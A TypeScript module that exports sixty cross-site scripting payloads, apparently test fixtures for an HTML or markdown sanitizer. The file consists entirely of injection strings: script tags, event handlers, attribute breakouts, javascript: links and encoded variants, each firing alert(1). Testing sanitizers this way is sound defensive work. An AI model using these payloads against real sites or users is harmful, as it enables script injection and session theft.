// Sixty XSS payloads, from every known family.
const call = 'alert(1)'

const elements = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=data:,${call}></SCRIPT>`,
  `<scr<script>ipt>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mi><script>${call}</script></mi></math>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<isindex action="javascript:${call}">`,
  `<template><script>${call}</script></template>`,
]
const handlers = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['div style=animation:x', 'onanimationstart'],
  ['a tabindex=0 autofocus', 'onfocus'],
  ['button popovertarget=x', 'onclick'],
  ['dialog open', 'onclose'],
  ['image src=x', 'onerror'],
].map(([element, handler]) => `<${element} ${handler}=${call}>`)
const attributes = [
  `" onmouseover="${call}`,
  `' onfocus='${call}' autofocus='`,
  `"><img src=x onerror=${call}>`,
  `'><svg/onload=${call}>`,
  `\` onerror=${call} \``,
  `" style="x:expression(${call})`,
  `x" srcdoc="<script>${call}</script>`,
  `"></a><script>${call}</script>`,
]
const markdown = [
  `[a](javascript:${call})`,
  `[a](JaVaScRiPt:${call})`,
  `[a](java\tscript:${call})`,
  `[a](&#106;avascript:${call})`,
  `[a](data:text/html,<script>${call}</script>)`,
  `[a](vbscript:${call})`,
  `![a](javascript:${call})`,
  `![a](x"onerror="${call})`,
  `<javascript:${call}>`,
  `[a]: javascript:${call}`,
]
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
]

export const payloads: readonly string[] = [...elements, ...handlers, ...attributes, ...markdown, ...templates]
